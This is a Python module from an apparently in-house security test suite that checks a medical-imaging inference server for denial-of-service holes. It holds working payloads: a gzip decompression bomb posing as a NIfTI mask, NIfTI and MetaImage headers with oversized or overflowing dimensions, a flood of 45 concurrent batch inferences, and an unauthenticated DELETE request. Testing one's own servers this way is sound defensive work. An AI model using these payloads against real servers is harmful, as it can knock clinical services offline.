"""Files that crash, block or fill a server, and many requests at once."""

from __future__ import annotations

import gzip
import json
import struct
import time
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

from intrusion.client import Attack, Client, Result, judged

# -- load and files ------------------------------------------------------------------------------


def many_batches(client: Client) -> Result:
    """45 batch inferences that are waited for: does /info still answer?"""
    client.ask("DELETE", "/batch/infer")  # one of the holes above
    usual_s = client.ask("GET", "/info/").seconds
    path = "/batch/infer/resmtnet?run_sync=true"
    body = json.dumps({"max_batch_size": 1, "device": "cpu", "multi_gpu": False}).encode()
    with ThreadPoolExecutor(46) as pool:
        asked = [
            pool.submit(client.ask, "POST", path, body, "application/json", 120.0)
            for _ in range(45)
        ]
        time.sleep(1.0)
        info = client.ask("GET", "/info/")
        statuses = [reply.result().status for reply in asked]
    told = f"/info after {info.seconds:.2f} s; answers {dict(Counter(statuses))}"
    for _ in range(30):  # an open server has to finish them first
        if client.lives():
            break
    in_time = info.seconds < max(2.5, 20 * usual_s)  # a busy machine is no hole
    return Result("closed" if info.status == 200 and in_time else "open", told)


def claim() -> bytes:
    """A .nii.gz of 67 bytes or so whose header claims 2048 x 2048 x 1280 voxels."""
    return gzip.compress(nifti_header((2048, 2048, 1280), 4, 16))


def bomb() -> bytes:
    """A .nii.gz of 1 MB that holds 1024 x 1024 x 1024 zeros, as a mask may."""
    zeros = gzip.compress(bytes(2**24))
    return gzip.compress(nifti_header((1024, 1024, 1024), 2, 8)) + zeros * 64


def nifti_header(size: tuple[int, int, int], kind: int, bits: int) -> bytes:
    """A header of voxels of 0.7 x 0.7 x 1 mm."""
    header = bytearray(352)
    struct.pack_into("<i", header, 0, 348)
    struct.pack_into("<8h", header, 40, 3, *size, 1, 1, 1, 1)
    struct.pack_into("<2h", header, 70, kind, bits)
    struct.pack_into("<8f", header, 76, 1, 0.7, 0.7, 1, 0, 0, 0, 0)
    struct.pack_into("<f", header, 108, 352)
    header[344:348] = b"n+1\0"
    return bytes(header)


def meta_image(dimensions: int) -> bytes:
    """A MetaImage whose header claims so many dimensions."""
    lines = ("ObjectType = Image", f"NDims = {dimensions}", "BinaryData = True", "DimSize = 4 4 4")
    end = ("ElementType = MET_SHORT", "ElementDataFile = LOCAL")
    return "\n".join((*lines, *end, "")).encode() + bytes(128)


def long_header() -> bytes:
    """A MetaImage with NDims = 2^32 + 1 and as many sizes as overrun a reader's table."""
    sizes = "DimSize = " + "4 " * 400_000
    text = f"ObjectType = Image\nNDims = 4294967297\n{sizes}\nElementType = MET_SHORT\n"
    return f"{text}ElementDataFile = LOCAL\n".encode()


def upload(name: str, content: Callable[[], bytes]) -> list[tuple[str, Attack]]:
    """A file in each place where one can be sent."""

    def through(method: str, path: str, part: str, attempt: str) -> tuple[str, Attack]:
        def ask(client: Client) -> Result:
            answer = client.form(method, path, {"params": "{}"}, **{part: (name, content())})
            # A label that is not understood is kept as it came, and the answer says so.
            kept = answer.status == 200 and b'"not_understood":[{' in answer.body
            return Result("closed", str(answer)) if kept else judged(answer)

        return f"{name} {attempt}", ask

    image = f"made-{name.split('.')[0]}"
    return [
        through("PUT", f"/datastore/image?image={image}", "file", "as an image"),
        through("PUT", "/datastore/label?image=phantom", "label", "as a label"),
        through("POST", "/infer/resmtnet", "file", "to a model"),
    ]
